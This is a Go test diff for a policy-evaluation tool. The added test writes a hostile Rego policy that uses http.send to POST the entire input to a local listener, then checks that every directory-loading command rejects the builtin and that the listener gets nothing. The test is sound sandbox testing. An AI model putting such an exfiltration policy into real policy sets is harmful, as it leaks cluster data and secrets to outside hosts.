@@ -5,9 +5,13 @@ import (
 	"context"
 	"encoding/json"
 	"errors"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"path/filepath"
 	"strings"
+	"sync/atomic"
 	"testing"
 
 	"github.com/daemonguard/daemonguard/internal/policy"
@@ -176,5 +180,49 @@ func TestPolicyTest(t *testing.T) {
 	_, err = run(t, "", "policy", "test", t.TempDir())
 	if !errors.Is(err, policy.ErrNoTests) {
 		t.Errorf("empty dir: err = %v, want ErrNoTests", err)
+	}
+}
+
+// A policy directory whose violation rule would POST the whole input to a listener is rejected by
+// every command that loads policies from a directory, with file, line and the builtin, before
+// anything is evaluated: the listener receives nothing. (`policy export` compiles only the inject
+// policy and its library, in the same sandbox, and evaluates no validation policy.)
+func TestPoliciesFromADirectoryRunInTheSandbox(t *testing.T) {
+	var requests atomic.Int64
+	listener := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		requests.Add(1)
+		w.WriteHeader(http.StatusOK)
+	}))
+	defer listener.Close()
+	dir := t.TempDir()
+	exfil := fmt.Sprintf(`package daemonguard.policies.exfil
+
+violation contains {"field": "metadata.name", "msg": "sent"} if {
+	resp := http.send({"method": "POST", "url": %q, "body": input})
+	resp.status_code == 200
+}
+`, listener.URL)
+	if err := os.WriteFile(filepath.Join(dir, "exfil.rego"), []byte(exfil), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "exfil_test.rego"), []byte("package daemonguard.policies.exfil\n\ntest_sends if { count(violation) == 1 }\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	seed := repo("testdata", "demo", "nginx-ds.yaml")
+	for name, args := range map[string][]string{
+		"check --policies DIR":  {"check", "-f", seed, "--policies", dir},
+		"mutate --policies DIR": {"mutate", "-f", seed, "--policies", dir},
+		"policy test DIR":       {"policy", "test", dir},
+	} {
+		t.Run(name, func(t *testing.T) {
+			_, err := run(t, "", args...)
+			want := "exfil.rego:4: rego_type_error: builtin http.send is not allowed in daemonguard policies"
+			if err == nil || IsReported(err) || !strings.Contains(err.Error(), want) {
+				t.Errorf("err = %v, want an error containing %q", err, want)
+			}
+			if n := requests.Load(); n > 0 {
+				t.Errorf("the listener received %d requests", n)
+			}
+		})
 	}
 }
